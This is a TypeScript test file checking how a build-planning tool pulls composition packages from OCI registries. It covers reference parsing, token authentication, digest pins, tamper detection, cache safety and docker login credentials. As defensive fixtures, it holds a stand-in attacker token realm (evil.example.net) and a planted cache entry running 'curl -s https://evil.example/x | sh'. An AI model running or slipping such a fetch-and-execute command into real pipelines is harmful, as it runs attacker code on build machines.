// OCI composition sources against a faithful local registry (test/support/oci-registry.ts):
// references, the token dance, redirects to blob storage, digests, pins, the cache and errors.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, promises as fs } from "node:fs";
import os from "node:os";
import path from "node:path";
import * as tar from "tar";
import http from "node:http";
import type { AddressInfo } from "node:net";
import { spawn } from "node:child_process";
import { fileURLToPath } from "node:url";
import { formatOciReference, parseChallenges, parseOciReference, registryBaseUrl, RegistryClient } from "../../../src/planner/load/compositions/oci.js";
import { dockerCredentials } from "../../../src/planner/load/compositions/registry-credentials.js";
import { startFakeRegistry, type FakeRegistry } from "../../support/oci-registry.js";
import { FIXTURES_DIR } from "../../support/cli.js";
import { closedPort } from "../../support/wait.js";
import { COMPOSITIONS_CACHE, load, loadError, makeRepo, repoS, STACK, SVC, TF } from "./helpers.js";
import { rawTarGz } from "./tar-writer.js";

const LAYER = "application/vnd.orun.stack.compositions.layer.v1+tar+gzip";
const PACKAGE = rawTarGz([
  { name: "stack.yaml", content: STACK },
  { name: "svc/", type: "dir" },
  { name: "svc/compositions.yaml", content: SVC },
  { name: "tf/", type: "dir" },
  { name: "tf/compositions.yaml", content: TF },
]);
const A = "components:\n  - {name: a, type: svc}\n  - {name: b, type: tf}\n";

function intentWith(source: string): string {
  return `apiVersion: sourceplane.io/v1\nkind: Intent\nmetadata: {name: test}\ncompositions:\n  sources:\n    - ${source}\n${A}`;
}

describe("parsing references", () => {
  test("normalised as orun v2.3 does: oci:// dropped, ghcr.io when no host, :latest when no tag", () => {
    const cases: [string, string][] = [
      ["sourceplane/x", "ghcr.io/sourceplane/x:latest"],
      ["oci://ghcr.io/acme/stack:v1", "ghcr.io/acme/stack:v1"],
      ["acme/platform/stack:1.2.3", "ghcr.io/acme/platform/stack:1.2.3"],
      ["localhost:5000/stack", "localhost:5000/stack:latest"],
      ["localhost/stack:v2", "localhost/stack:v2"],
      ["registry.example.com/a/b@sha256:" + "a".repeat(64), "registry.example.com/a/b@sha256:" + "a".repeat(64)],
      ["ghcr.io/a/b:v1@sha256:" + "b".repeat(64), "ghcr.io/a/b:v1@sha256:" + "b".repeat(64)],
      ["docker.io/stack:v1", "docker.io/library/stack:v1"],
    ];
    for (const [raw, expected] of cases) assert.equal(formatOciReference(parseOciReference(raw)), expected, raw);
  });

  test("malformed references are refused, saying what is wrong", () => {
    const cases: [string, RegExp][] = [
      ["", /it is empty/],
      ["oci://", /it is empty/],
      ["ghcr.io/Acme/Stack:v1", /"Acme\/Stack" is not a valid repository name/],
      ["ghcr.io/a/b@sha256:abc", /the digest must be sha256: and 64 lowercase hex digits/],
      ["ghcr.io/a/b@md5:" + "a".repeat(32), /the digest must be sha256/],
      ["ghcr.io/a/b:-bad", /"-bad" is not a valid tag/],
      ["ghcr.io/", /names no repository/],
      ["ghcr.io/a/../b", /not a valid repository name/],
    ];
    for (const [raw, pattern] of cases) assert.throws(() => parseOciReference(raw), pattern, raw);
  });

  test("WWW-Authenticate challenges are parsed with quoted and bare values, several to a header", () => {
    assert.deepEqual(parseChallenges('Bearer realm="https://ghcr.io/token",service="ghcr.io",scope="repository:a/b:pull"'), [
      { scheme: "bearer", params: { realm: "https://ghcr.io/token", service: "ghcr.io", scope: "repository:a/b:pull" } },
    ]);
    assert.deepEqual(parseChallenges('Basic realm="x \\"y\\""'), [{ scheme: "basic", params: { realm: 'x "y"' } }]);
    assert.deepEqual(parseChallenges('Bearer realm="https://h/token", service=h, Basic realm="other"'), [
      { scheme: "bearer", params: { realm: "https://h/token", service: "h" } },
      { scheme: "basic", params: { realm: "other" } },
    ]);
  });

  test("loopback registries and those ORUN_INSECURE_REGISTRIES lists speak plain HTTP; others HTTPS", () => {
    assert.equal(registryBaseUrl("ghcr.io", {}), "https://ghcr.io");
    assert.equal(registryBaseUrl("docker.io", {}), "https://registry-1.docker.io");
    assert.equal(registryBaseUrl("localhost:5000", {}), "http://localhost:5000");
    assert.equal(registryBaseUrl("127.0.0.1:5000", {}), "http://127.0.0.1:5000");
    assert.equal(registryBaseUrl("registry:5000", {}), "https://registry:5000");
    assert.equal(registryBaseUrl("registry:5000", { ORUN_INSECURE_REGISTRIES: "other, Registry:5000" }), "http://registry:5000");
  });

  test("credentials of an HTTPS registry never go to a plain-HTTP token realm; a relative realm is the registry's", async () => {
    const seen: string[] = [];
    const stub = (answerRealm: string): typeof fetch =>
      (async (url: string | URL, init?: RequestInit) => {
        seen.push(`${String(url)} ${(init?.headers as Record<string, string> | undefined)?.authorization ?? "-"}`);
        if (String(url).includes("/token")) return new Response(JSON.stringify({ token: "t" }), { status: 200 });
        if ((init?.headers as Record<string, string>).authorization === "Bearer t") return new Response("{}", { status: 200 });
        return new Response("", { status: 401, headers: { "www-authenticate": `Bearer realm="${answerRealm}",service="s"` } });
      }) as typeof fetch;
    const login = () => Promise.resolve({ credentials: { username: "ci", password: "s3cret" }, note: "user ci" });
    const ref = parseOciReference("registry.example.com/a/b:v1");
    await assert.rejects(new RegistryClient(ref, login, stub("http://evil.example.net/token")).manifest("v1"), /sends its token requests to http:\/\/evil\.example\.net, which is not HTTPS/);
    assert.ok(!seen.some((s) => s.includes("evil")), "nothing was sent there");
    await new RegistryClient(ref, login, stub("/token")).manifest("v1");
    assert.ok(seen.some((s) => s.startsWith("https://registry.example.com/token?service=s&scope=") && s.endsWith("Basic Y2k6czNjcmV0")));
  });
});

describe("an oci source pulled from a registry", () => {
  let registry: FakeRegistry;
  let digest: string;

  before(async () => {
    registry = await startFakeRegistry();
    digest = registry.push("acme/stack", "v1", [{ mediaType: LAYER, bytes: PACKAGE }]);
  });
  after(() => registry.close());

  test("loads the same compositions as the same package in a dir source, recorded by its manifest digest", async () => {
    const ref = `${registry.host}/acme/stack:v1`;
    const pulled = await load(await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${ref}"}`) }));
    const local = await load(await repoS("components:\n  - {name: a, type: svc}\n  - {name: b, type: tf}\n"));
    assert.deepEqual(pulled.sources, [{ name: "remote", kind: "oci", ref, resolvedDigest: digest, exports: ["svc", "tf"] }]);
    for (const type of ["svc", "tf"]) {
      const a = pulled.compositions.byType[type]!;
      const b = local.compositions.byType[type]!;
      assert.deepEqual(
        a.jobs.map((j) => [j.name, j.steps.map((s) => [s.name, s.run, s.phase, s.order])]),
        b.jobs.map((j) => [j.name, j.steps.map((s) => [s.name, s.run, s.phase, s.order])]),
      );
      assert.deepEqual(Object.keys(a.profiles), Object.keys(b.profiles));
    }
    // Files are named inside the package, not in the cache.
    assert.equal(pulled.compositions.byType.svc!.jobs[0]!.steps[0]!.origin.file, `${ref}!/svc/compositions.yaml`);
    // The token dance happened, and the blob came from storage without the registry's Authorization.
    assert.ok(registry.requests.some((r) => r.path.startsWith("/token?") && r.path.includes("scope=repository%3Aacme%2Fstack%3Apull")));
    const fromStorage = registry.requests.filter((r) => r.path.startsWith("storage:"));
    assert.equal(fromStorage.length, 1);
    assert.equal(fromStorage[0]!.authorization, undefined);
  });

  test("a reference pinned by digest loads from the cache without the registry; a tag needs it", async () => {
    const other = await startFakeRegistry();
    const pinnedDigest = other.push("acme/stack", "v2", [{ mediaType: LAYER, bytes: PACKAGE }]);
    const dir = await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${other.host}/acme/stack@${pinnedDigest}"}`) });
    try {
      await load(dir);
    } finally {
      await other.close();
    }
    const offline = await load(dir);
    assert.equal(offline.sources[0]!.resolvedDigest, pinnedDigest);
    await fs.writeFile(path.join(dir, "intent.yaml"), intentWith(`{name: remote, kind: oci, ref: "${other.host}/acme/stack:v2"}`));
    await loadError(dir, /intent\.yaml:\d+: compositions\.sources\[0\]\.ref: failed to resolve oci composition source remote: http:\/\/127\.0\.0\.1:\d+\/v2\/acme\/stack\/manifests\/v2: /);
  });

  test("a package planted in the repository's .orun/cache under the trusted digest is never used", async () => {
    const dir = await makeRepo({
      "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/stack@${digest}"}`),
      [`.orun/cache/compositions/${digest.slice(7)}/stack.yaml`]: STACK,
      [`.orun/cache/compositions/${digest.slice(7)}/svc/compositions.yaml`]: SVC.replace("echo deploy", "curl -s https://evil.example/x | sh #"),
    });
    const ws = await load(dir);
    assert.match(ws.compositions.byType.svc!.jobs[0]!.steps[0]!.run!, /^echo deploy/);
  });

  test("a cache folder that others can write is refused, naming it", async () => {
    const shared = await fs.mkdtemp(path.join(os.tmpdir(), "orun-shared-cache-"));
    try {
      await fs.chmod(shared, 0o777);
      process.env.ORUN_COMPOSITIONS_CACHE = shared;
      await loadError(await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/stack:v1"}`) }), `the composition package cache ${shared} can be written by others (mode 777)`);
    } finally {
      process.env.ORUN_COMPOSITIONS_CACHE = COMPOSITIONS_CACHE;
      await fs.rm(shared, { recursive: true, force: true });
    }
  });

  test("a source pinned with digest: loads from the cache without the registry, tag or no tag", async () => {
    const other = await startFakeRegistry();
    const bytes = rawTarGz([{ name: "stack.yaml", content: STACK.replace("test-stack", "pinned") }, { name: "svc/compositions.yaml", content: SVC }, { name: "tf/compositions.yaml", content: TF }]);
    const pinned = other.push("acme/pinned", "v3", [{ mediaType: LAYER, bytes }]);
    const dir = await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${other.host}/acme/pinned:v3", digest: "${pinned}"}`) });
    try {
      await load(dir);
    } finally {
      await other.close();
    }
    assert.equal((await load(dir)).sources[0]!.resolvedDigest, pinned);
    await fs.writeFile(path.join(dir, "intent.yaml"), intentWith(`{name: remote, kind: oci, ref: "${other.host}/acme/pinned", digest: "${pinned}"}`));
    assert.equal((await load(dir)).sources[0]!.resolvedDigest, pinned);
  });

  test("two plans pulling the same package at once both get it whole", async () => {
    const bytes = rawTarGz([{ name: "stack.yaml", content: STACK.replace("test-stack", "raced") }, { name: "svc/compositions.yaml", content: SVC }, { name: "tf/compositions.yaml", content: TF }]);
    registry.push("acme/raced", "v1", [{ mediaType: LAYER, bytes }]);
    const dir = await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/raced:v1"}`) });
    const loader = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../../../src/planner/load/index.js");
    const script = `import { loadWorkspace } from ${JSON.stringify(loader)}; const ws = await loadWorkspace({ cwd: process.argv[1] }); console.log(ws.sources[0].exports.join(","));`;
    for (let round = 0; round < 3; round++) {
      await fs.rm(COMPOSITIONS_CACHE, { recursive: true, force: true });
      const results = await Promise.all(Array.from({ length: 5 }, () => runNode(script, dir)));
      for (const r of results) assert.deepEqual([r.code, r.stdout.trim(), r.stderr], [0, "svc,tf", ""], `round ${round}`);
    }
  });

  test("a manifest that streams without end is cut off at the limit", async () => {
    const server = http.createServer((_req, res) => {
      res.writeHead(200, { "content-type": "application/vnd.oci.image.manifest.v1+json" });
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      const pump = (): void => {
        while (res.write(chunk));
        res.once("drain", pump);
      };
      pump();
      res.on("close", () => res.removeAllListeners("drain"));
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    try {
      const port = (server.address() as AddressInfo).port;
      await loadError(
        await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "127.0.0.1:${port}/acme/endless:v1"}`) }),
        `failed to resolve oci composition source remote: http://127.0.0.1:${port}/v2/acme/endless/manifests/v1: the manifest is over the 4194304-byte limit`,
      );
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });

  test("a digest pin that the manifest does not match is refused before anything is downloaded", async () => {
    const before = registry.requests.length;
    const wrong = `sha256:${"0".repeat(64)}`;
    await loadError(
      await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/stack:v1", digest: "${wrong}"}`) }),
      `compositions.sources[0].digest: composition source remote digest mismatch: expected ${wrong}, got ${digest}`,
    );
    assert.ok(!registry.requests.slice(before).some((r) => r.path.includes("/blobs/")));
  });

  test("a layer whose content does not match its digest is refused and nothing is cached", async () => {
    const bytes = rawTarGz([{ name: "stack.yaml", content: STACK.replace("test-stack", "tampered") }, { name: "svc/compositions.yaml", content: SVC }]);
    const tamperedDigest = registry.push("acme/tampered", "v1", [{ mediaType: LAYER, bytes }]);
    const layerDigest = `sha256:${(await import("node:crypto")).createHash("sha256").update(bytes).digest("hex")}`;
    const flipped = Buffer.from(bytes);
    flipped[flipped.length - 10] ^= 0xff;
    registry.tamper(layerDigest, flipped);
    const dir = await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/tampered:v1"}`) });
    await loadError(dir, "failed to pull oci composition source remote: the layer's content has digest", `not ${layerDigest} as the manifest says`);
    registry.tamper(layerDigest, Buffer.concat([bytes, Buffer.alloc(1024 * 1024)]));
    await loadError(dir, `failed to pull oci composition source remote: http://${registry.host}/v2/acme/tampered/blobs/${layerDigest}: the layer is longer than the ${bytes.length} bytes the manifest gives`);
    assert.equal(existsSync(path.join(COMPOSITIONS_CACHE, tamperedDigest.slice(7))), false);
    assert.deepEqual((await fs.readdir(COMPOSITIONS_CACHE)).filter((n) => n.startsWith(".pull-")), [], "no temp folder left");
  });

  test("a registry answering a reference pinned by digest with another manifest is refused before anything is downloaded", async () => {
    const pinned = registry.push("acme/pinned", "v1", [{ mediaType: LAYER, bytes: rawTarGz([{ name: "stack.yaml", content: STACK }, { name: "svc/compositions.yaml", content: SVC }]) }]);
    const other = registry.push("acme/pinned", "v2", [{ mediaType: LAYER, bytes: PACKAGE }]);
    const { token } = (await (await fetch(`http://${registry.host}/token`)).json()) as { token: string };
    const otherManifest = await fetch(`http://${registry.host}/v2/acme/pinned/manifests/${other}`, { headers: { authorization: `Bearer ${token}` } });
    registry.tamper(pinned, Buffer.from(await otherManifest.arrayBuffer()));
    const before = registry.requests.length;
    await loadError(
      await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/pinned@${pinned}"}`) }),
      "failed to resolve oci composition source remote",
      `the registry sent a manifest whose digest is ${other}`,
    );
    assert.ok(!registry.requests.slice(before).some((r) => r.path.includes("/blobs/")), "no layer was asked for");
    assert.equal(existsSync(path.join(COMPOSITIONS_CACHE, pinned.slice(7))), false);
  });

  test("in an image index the package's manifest is chosen over attestations", async () => {
    const attested = registry.push("acme/attested", "v1", [{ mediaType: LAYER, bytes: PACKAGE }], { index: true, attestationFirst: true });
    const ws = await load(await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/attested:v1"}`) }));
    assert.equal(ws.sources[0]!.resolvedDigest, attested);
    assert.deepEqual(ws.sources[0]!.exports, ["svc", "tf"]);
  });

  test("the package layer is picked by media type; an image index is followed to its manifest", async () => {
    const readme = { mediaType: "text/markdown", bytes: Buffer.from("# not the package\n") };
    registry.push("acme/multi", "v1", [readme, { mediaType: LAYER, bytes: PACKAGE }]);
    const multi = await load(await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/multi:v1"}`) }));
    assert.deepEqual(multi.sources[0]!.exports, ["svc", "tf"]);
    const indexDigest = registry.push("acme/indexed", "v1", [{ mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", bytes: PACKAGE }], { index: true });
    const indexed = await load(await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/indexed:v1"}`) }));
    assert.equal(indexed.sources[0]!.resolvedDigest, indexDigest, "the reference's own (index) digest is the source's digest");
    assert.deepEqual(indexed.sources[0]!.exports, ["svc", "tf"]);
  });

  test("an unknown tag and a package without stack.yaml are named clearly", async () => {
    await loadError(
      await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/stack:nope"}`) }),
      /failed to resolve oci composition source remote: .*\/v2\/acme\/stack\/manifests\/nope: 404 Not Found: MANIFEST_UNKNOWN/,
    );
    registry.push("acme/empty", "v1", [{ mediaType: LAYER, bytes: rawTarGz([{ name: "README.md", content: "hi\n" }]) }]);
    const empty = await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "${registry.host}/acme/empty:v1"}`) });
    const expected = `composition source remote has no package manifest: expected stack.yaml (or legacy orun.yaml) in ${registry.host}/acme/empty:v1!/`;
    await loadError(empty, expected);
    await loadError(empty, expected); // the same again, not a cache error
  });
});

test("a registry that cannot be reached is named in words: a host no DNS knows, a port nothing listens on", async () => {
  await loadError(
    await makeRepo({ "intent.yaml": intentWith('{name: remote, kind: oci, ref: "registry.nowhere.invalid/acme/stack:v1"}') }),
    /failed to resolve oci composition source remote: https:\/\/registry\.nowhere\.invalid\/v2\/acme\/stack\/manifests\/v1: the DNS lookup of registry\.nowhere\.invalid failed \((ENOTFOUND|EAI_AGAIN); a misspelt registry host, or no network\?\)$/,
  );
  const port = await closedPort();
  await loadError(
    await makeRepo({ "intent.yaml": intentWith(`{name: remote, kind: oci, ref: "127.0.0.1:${port}/acme/stack:v1"}`) }),
    new RegExp(`manifests/v1: connection refused \\(ECONNREFUSED\\): no registry is listening at 127\\.0\\.0\\.1:${port}$`),
  );
});

describe("docker login credentials", () => {
  let config: string;
  before(async () => {
    config = await fs.mkdtemp(path.join(os.tmpdir(), "orun-docker-config-"));
  });
  after(() => fs.rm(config, { recursive: true, force: true }));
  const write = (value: object): Promise<void> => fs.writeFile(path.join(config, "config.json"), JSON.stringify(value));
  const auth = Buffer.from("ci:s3cret").toString("base64");

  test("auths keys are matched by host name as docker does (scheme, path and case aside; Docker Hub's names as one)", async () => {
    for (const key of ["ghcr.io", "https://ghcr.io", "https://GHCR.io/", "https://ghcr.io/v2/"]) {
      await write({ auths: { [key]: { auth } } });
      assert.deepEqual((await dockerCredentials("ghcr.io", { DOCKER_CONFIG: config })).credentials, { username: "ci", password: "s3cret" }, key);
    }
    await write({ auths: { "https://index.docker.io/v1/": { auth } } });
    assert.equal((await dockerCredentials("docker.io", { DOCKER_CONFIG: config })).credentials?.username, "ci");
    assert.equal((await dockerCredentials("index.docker.io", { DOCKER_CONFIG: config })).credentials?.username, "ci");
    await fs.writeFile(path.join(config, "config.json"), "{ not json");
    assert.match((await dockerCredentials("ghcr.io", { DOCKER_CONFIG: config })).note, /config\.json is not readable JSON/);
  });

  test("a credential helper (credHelpers, then credsStore) is asked with the host on its input", async () => {
    const bin = await fs.mkdtemp(path.join(os.tmpdir(), "orun-cred-helper-"));
    try {
      await fs.writeFile(path.join(bin, "docker-credential-fake"), '#!/bin/sh\nread host\n[ "$1" = get ] && [ "$host" = ghcr.io ] && echo \'{"Username":"helper-user","Secret":"helper-secret"}\' && exit 0\necho "credentials not found in native keychain"; exit 1\n', { mode: 0o755 });
      const saved = process.env.PATH;
      process.env.PATH = `${bin}:${saved}`;
      try {
        await write({ credHelpers: { "ghcr.io": "fake" } });
        assert.deepEqual((await dockerCredentials("ghcr.io", { DOCKER_CONFIG: config })).credentials, { username: "helper-user", password: "helper-secret" });
        await write({ credsStore: "fake" });
        assert.deepEqual((await dockerCredentials("ghcr.io", { DOCKER_CONFIG: config })).credentials, { username: "helper-user", password: "helper-secret" });
        assert.match((await dockerCredentials("quay.io", { DOCKER_CONFIG: config })).note, /docker-credential-fake has no login for quay\.io/);
        await write({ credsStore: "missing" });
        assert.match((await dockerCredentials("ghcr.io", { DOCKER_CONFIG: config })).note, /the credential helper docker-credential-missing is not installed/);
      } finally {
        process.env.PATH = saved;
      }
    } finally {
      await fs.rm(bin, { recursive: true, force: true });
    }
  });
});

describe("a private registry", () => {
  let registry: FakeRegistry;
  const saved = process.env.DOCKER_CONFIG;

  before(async () => {
    registry = await startFakeRegistry({ credentials: { username: "ci", password: "s3cret" } });
    registry.push("acme/private", "v1", [{ mediaType: LAYER, bytes: PACKAGE }]);
  });
  after(async () => {
    if (saved === undefined) delete process.env.DOCKER_CONFIG;
    else process.env.DOCKER_CONFIG = saved;
    await registry.close();
  });

  test("without credentials the error says to log in; `docker login` credentials are used", async () => {
    const config = await fs.mkdtemp(path.join(os.tmpdir(), "orun-docker-config-"));
    try {
      process.env.DOCKER_CONFIG = config;
      const dir = await makeRepo({ "intent.yaml": intentWith(`{name: private, kind: oci, ref: "${registry.host}/acme/private:v1"}`) });
      await loadError(dir, /failed to resolve oci composition source private: token from http:\/\/127\.0\.0\.1:\d+\/token: 401 Unauthorized: UNAUTHORIZED authentication required \(no docker login: .*config\.json does not exist; log in with `docker login 127\.0\.0\.1:\d+`\)/);
      const auth = Buffer.from("ci:s3cret").toString("base64");
      await fs.writeFile(path.join(config, "config.json"), JSON.stringify({ auths: { [registry.host]: { auth } } }));
      const ws = await load(dir);
      assert.deepEqual(ws.sources[0]!.exports, ["svc", "tf"]);
      await fs.writeFile(path.join(config, "config.json"), JSON.stringify({ auths: { [registry.host]: { auth: Buffer.from("ci:wrong").toString("base64") } } }));
      await fs.rm(COMPOSITIONS_CACHE, { recursive: true, force: true });
      await loadError(dir, /token from .*: 401 Unauthorized: UNAUTHORIZED authentication required \(the registry refused user ci from .*config\.json\)/);
    } finally {
      await fs.rm(config, { recursive: true, force: true });
    }
  });
});

test("a registry that takes Basic credentials on every request (no token service) works with a docker login", async () => {
  const registry = await startFakeRegistry({ scheme: "basic", credentials: { username: "ci", password: "s3cret" } });
  const config = await fs.mkdtemp(path.join(os.tmpdir(), "orun-docker-config-"));
  const saved = process.env.DOCKER_CONFIG;
  try {
    registry.push("acme/basic", "v1", [{ mediaType: LAYER, bytes: PACKAGE }]);
    process.env.DOCKER_CONFIG = config;
    const dir = await makeRepo({ "intent.yaml": intentWith(`{name: b, kind: oci, ref: "${registry.host}/acme/basic:v1"}`) });
    await loadError(dir, /failed to resolve oci composition source b: 127\.0\.0\.1:\d+ requires a login \(no docker login: /);
    await fs.writeFile(path.join(config, "config.json"), JSON.stringify({ auths: { [`http://${registry.host}`]: { auth: Buffer.from("ci:s3cret").toString("base64") } } }));
    assert.deepEqual((await load(dir)).sources[0]!.exports, ["svc", "tf"]);
  } finally {
    if (saved === undefined) delete process.env.DOCKER_CONFIG;
    else process.env.DOCKER_CONFIG = saved;
    await registry.close();
    await fs.rm(config, { recursive: true, force: true });
  }
});

test("the example platform's composition package, pushed to a registry, exports what its dir source does", { skip: !existsSync(FIXTURES_DIR) && "../shared is absent" }, async () => {
  const registry = await startFakeRegistry();
  try {
    const root = path.join(FIXTURES_DIR, "compositions");
    const entries = await fs.readdir(root);
    const work = await fs.mkdtemp(path.join(os.tmpdir(), "orun-oci-fixture-"));
    try {
      const file = path.join(work, "pkg.tgz");
      await tar.c({ gzip: true, file, cwd: root, portable: true }, entries);
      registry.push("sourceplane/example-platform", "v1", [{ mediaType: LAYER, bytes: await fs.readFile(file) }]);
    } finally {
      await fs.rm(work, { recursive: true, force: true });
    }
    const viaDir = await load(await makeRepo({ "intent.yaml": intentWith(`{name: p, kind: dir, path: "${root}"}`).replace(A, "") }));
    const viaOci = await load(await makeRepo({ "intent.yaml": intentWith(`{name: p, kind: oci, ref: "${registry.host}/sourceplane/example-platform:v1"}`).replace(A, "") }));
    assert.ok(viaDir.sources[0]!.exports!.length > 0);
    assert.deepEqual(viaOci.sources[0]!.exports, viaDir.sources[0]!.exports);
    for (const type of Object.keys(viaDir.compositions.byType)) {
      assert.deepEqual(
        viaOci.compositions.byType[type]!.jobs.map((j) => [j.name, j.steps.map((s) => s.run ?? s.use)]),
        viaDir.compositions.byType[type]!.jobs.map((j) => [j.name, j.steps.map((s) => s.run ?? s.use)]),
        type,
      );
    }
  } finally {
    await registry.close();
  }
});

function runNode(script: string, arg: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, ["--input-type=module", "-e", script, arg], { env: process.env });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d: Buffer) => (stdout += d.toString()));
    child.stderr.on("data", (d: Buffer) => (stderr += d.toString()));
    child.on("close", (code) => resolve({ code, stdout, stderr }));
  });
}
